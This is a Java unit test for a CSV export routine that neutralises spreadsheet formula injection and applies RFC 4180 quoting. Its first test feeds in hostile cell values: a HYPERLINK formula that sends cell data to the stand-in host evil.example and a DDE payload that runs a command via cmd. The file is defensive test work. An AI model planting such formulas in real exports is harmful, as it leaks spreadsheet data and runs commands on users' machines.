package io.contractgate.quarantine;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** CSV export cells: what a spreadsheet would run as a formula is defused, the rest quoted as RFC 4180 says. */
class ExportCellTest {

    @Test
    void shouldDefuseCellsASpreadsheetWouldRunAsFormulas() {
        // before: a sensor id from a hostile payload went into the CSV as a live formula
        assertThat(ExportStream.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
        assertThat(ExportStream.cell("@SUM(1+1)")).isEqualTo("'@SUM(1+1)");
        assertThat(ExportStream.cell("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(ExportStream.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(ExportStream.cell("\tx")).isEqualTo("'\tx");
    }

    @Test
    void shouldLeaveOrdinaryCellsAsTheyAreAndQuoteOnlyWhatRfc4180Needs() {
        assertThat(ExportStream.cell("s1-0001")).isEqualTo("s1-0001");
        assertThat(ExportStream.cell("")).isEmpty();
        assertThat(ExportStream.cell("{\"a\":1,\"b\":2}")).isEqualTo("\"{\"\"a\"\":1,\"\"b\"\":2}\"");
        assertThat(ExportStream.cell("line\nbreak")).isEqualTo("\"line\nbreak\"");
    }
}
